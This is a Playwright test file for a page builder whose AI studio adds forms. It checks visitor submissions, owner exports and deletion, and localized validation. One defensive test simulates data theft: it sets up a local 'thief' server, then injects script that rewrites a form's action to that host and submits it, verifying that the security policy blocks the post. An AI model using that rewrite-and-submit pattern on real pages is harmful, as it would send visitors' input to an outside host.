// Forms on a public page, end to end: the assistant adds one, visitors send it with and without
// scripts, the owner sees, exports and deletes what came. A form to another site sends nothing.
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import AxeBuilder from '@axe-core/playwright';
import { type Browser, expect, type Page, test } from '@playwright/test';
import { pagesOrigin } from './support/origins.ts';
import { createPage, createPerson, publishPage, startSession } from './support/people.ts';
import { openStudio, preview, publishAsItIs, sendMessage } from './support/studio.ts';

/** A visitor of their own, who never signed in. */
async function visit(browser: Browser | null, path: string, javaScriptEnabled: boolean) {
  if (!browser) throw new Error('no browser');
  const context = await browser.newContext({ javaScriptEnabled });
  const page = await context.newPage();
  await page.goto(`${pagesOrigin}${path}`);
  return page;
}

/** The checker is a script itself. */
async function expectAccessible(page: Page, scripts: boolean, part = 'body') {
  if (!scripts) return;
  const { violations } = await new AxeBuilder({ page }).include(part).analyze();
  expect(violations).toEqual([]);
}

for (const scripts of [true, false]) {
  test(`a visitor signs up ${scripts ? 'with' : 'without'} scripts on a page that the assistant gave a form`, {
    tag: '@slow',
  }, async ({ page, request, context }) => {
    test.setTimeout(120_000);
    const person = await createPerson(request);
    await startSession(page, person);
    await openStudio(page, '/ai-studio/new');
    await sendMessage(page, 'A page for my pottery studio');
    // Its processes may be just starting.
    const soon = { timeout: 30_000 };
    await expect(preview(page).getByRole('heading', { level: 1 })).toBeVisible(soon);
    await sendMessage(page, 'Add a newsletter form');
    const newsletter = 'form[data-form="newsletter"]';
    const inPreview = preview(page).locator(newsletter);
    await expect(inPreview.getByRole('textbox', { name: 'Email' })).toBeVisible(soon);
    await page.getByRole('button', { name: 'Save Changes' }).click();
    await expect(page.getByText('Page saved successfully')).toBeVisible();
    await publishAsItIs(page);

    const visitor = await visit(context.browser(), `/${person.username}`, scripts);
    const form = visitor.locator(newsletter);
    await form.getByRole('textbox', { name: 'Email' }).fill('ben@example.com');
    await form.getByRole('button').click();
    // In the page itself: its heading is still there, and the form has made room.
    await expect(visitor.getByRole('status')).toContainText("You're subscribed");
    await expect(visitor.getByRole('status')).toBeFocused();
    await expect(visitor.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(form).toBeHidden();
    await expectAccessible(visitor, scripts);
    if (scripts) await expect(visitor).toHaveURL(`${pagesOrigin}/${person.username}`);
    await visitor.context().close();

    await page.goto('/pages');
    const messages = page.getByRole('region', { name: 'Messages' });
    await expect(messages.getByRole('row', { name: /ben@example\.com/ })).toBeVisible();
    await expect(messages.getByText('Not confirmed', { exact: true })).toBeVisible();

    await expectAccessible(page, true, '#messages');

    const download = page.waitForEvent('download');
    await messages.getByRole('button', { name: 'Export CSV' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^[\w-]+-messages-\d{4}-\d\d-\d\d\.csv$/);
    expect(await readFile(await file.path(), 'utf8')).toContain('"ben@example.com"');

    await messages.getByRole('button', { name: /^Delete/ }).click();
    await expect(messages.getByText('ben@example.com')).toHaveCount(0);
    await page.getByRole('button', { name: 'Undo' }).click();
    await expect(messages.getByText('ben@example.com')).toBeVisible();
  });
}

const contactForm = (attributes: string) => ({
  jsx: `import { useState } from 'react';
export default function Page() {
  const [count, setCount] = useState(0);
  return <main>
    <h1>Ada</h1>
    <button type="button" onClick={() => setCount(count + 1)}>Awake {count}</button>
    <form ${attributes}>
      <label>Message <textarea name="message"></textarea></label>
      <button type="submit">Send {count}</button>
    </form>
  </main>;
}`,
  css: '',
  metadata: { title: 'Ada', description: '' },
});

test('a form that would post elsewhere does nothing, also once the page runs its scripts', {
  tag: '@slow',
}, async ({ request, context }) => {
  let received = 0;
  const thief = createServer((_request, response) => {
    received += 1;
    response.end('thanks');
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const address = thief.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const person = await createPerson(request);
  const content = contactForm(
    `method="post" action={count > 0 ? "http://127.0.0.1:${port}/" : "/x"}`,
  );
  await publishPage(request, person, await createPage(request, person, content));

  const still = await visit(context.browser(), `/${person.username}`, false);
  await still.getByLabel('Message').fill('secret');
  await still.getByRole('button', { name: /^Send/ }).click();
  // Somewhere else, or after a reload, it would be gone.
  await expect(still.getByLabel('Message')).toHaveValue('secret');
  expect(still.url()).toBe(`${pagesOrigin}/${person.username}`);
  await still.context().close();

  const lively = await visit(context.browser(), `/${person.username}`, true);
  const awake = lively.getByRole('button', { name: /^Awake/ });
  await awake.click();
  await expect(awake).toHaveText('Awake 1');
  await lively.getByLabel('Message').fill('secret');
  // Whatever the sanitizer took, a script of the page could put back. A click would have to wait for a
  // navigation that begins and never ends.
  await lively.evaluate((action) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      document.body.dataset.rejected = event.effectiveDirective;
    });
    const form = document.forms[0];
    if (!form) throw new Error('no form');
    form.method = 'post';
    form.action = action;
    form.requestSubmit();
  }, `http://127.0.0.1:${port}/`);
  const rejected = () => lively.evaluate(() => document.body.dataset.rejected);
  await expect.poll(rejected).toBe('form-action');
  expect(lively.url()).toBe(`${pagesOrigin}/${person.username}`);
  await lively.context().close();
  expect(received).toBe(0);
  thief.close();
});

test('a contact form of a running page reaches its owner, and says what is missing', async ({
  page,
  request,
  context,
}) => {
  const person = await createPerson(request);
  const content = contactForm('data-form="contact"');
  await publishPage(request, person, await createPage(request, person, content));
  const visitor = await visit(context.browser(), `/${person.username}`, true);
  const awake = visitor.getByRole('button', { name: /^Awake/ });
  await awake.click();
  await visitor.getByRole('button', { name: /^Send/ }).click();
  await expect(visitor.getByRole('alert')).toContainText('Message is required');
  const message = visitor.getByLabel('Message');
  await expect(message).toHaveAttribute('aria-invalid', 'true');
  // The page still runs.
  await expect(awake).toHaveText('Awake 1');
  await message.fill('Do you sell prints?');
  await visitor.getByRole('button', { name: /^Send/ }).click();
  await expect(visitor.getByRole('status')).toContainText('Message sent');
  await expect(message).toBeHidden();
  await visitor.context().close();

  await startSession(page, person);
  await page.goto('/pages');
  await expect(page.getByRole('row', { name: /Do you sell prints\?/ })).toBeVisible();
});

const germanForm = {
  jsx: `export default function Page() {
  return <main>
    <h1>Töpferei am Fluss</h1>
    <p>Ich töpfere Tassen und Schalen in einer kleinen Werkstatt. Schreib mir, wenn du eine bestellen willst.</p>
    <form data-form="contact">
      <label>Name <input name="name" /></label>
      <label>E-Mail <input name="email" /></label>
      <label>Nachricht <textarea name="message"></textarea></label>
      <label><input type="checkbox" name="rückruf" /> Rückruf</label>
      <button>Senden</button>
    </form>
  </main>;
}`,
  css: 'main { max-width: 30rem; margin: 0 auto; padding: 1rem; font-family: Sora } label { display: block }',
  metadata: { title: 'Töpferei am Fluss', description: 'Tassen und Schalen' },
};

for (const scripts of [true, false]) {
  test(`what is wrong with a form is said in its page and language, and what was typed is kept, ${scripts ? 'with' : 'without'} scripts`, {
    tag: '@slow',
  }, async ({ request, context }) => {
    const person = await createPerson(request);
    await publishPage(request, person, await createPage(request, person, germanForm));
    const visitor = await visit(context.browser(), `/${person.username}`, scripts);
    await visitor.setViewportSize({ width: 375, height: 667 });
    await visitor.getByLabel('Name').fill('Ben "B" <b>');
    await visitor.getByLabel('E-Mail').fill('keine-adresse');
    await visitor.getByLabel('Nachricht').fill('Zeile 1\nZeile 2');
    await visitor.getByLabel('Rückruf').check();
    await visitor.getByRole('button', { name: 'Senden' }).click();
    const alert = visitor.getByRole('alert');
    await expect(alert).toContainText('Gib eine gültige E-Mail-Adresse ein');
    await expect(alert).toBeInViewport();
    await expect(visitor.getByRole('heading', { name: 'Töpferei am Fluss' })).toBeVisible();
    await expect(visitor.getByLabel('Name')).toHaveValue('Ben "B" <b>');
    await expect(visitor.getByLabel('E-Mail')).toHaveAttribute('aria-invalid', 'true');
    await expect(visitor.getByLabel('Nachricht')).toHaveValue('Zeile 1\nZeile 2');
    await expect(visitor.getByLabel('Rückruf')).toBeChecked();
    const width = await visitor.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(375);
    await expectAccessible(visitor, scripts);

    await visitor.getByLabel('E-Mail').fill('ben@example.com');
    await visitor.getByRole('button', { name: 'Senden' }).click();
    await expect(visitor.getByRole('status')).toContainText('Nachricht gesendet');
    await expect(visitor.getByRole('button', { name: 'Senden' })).toBeHidden();
    await visitor.context().close();
  });
}
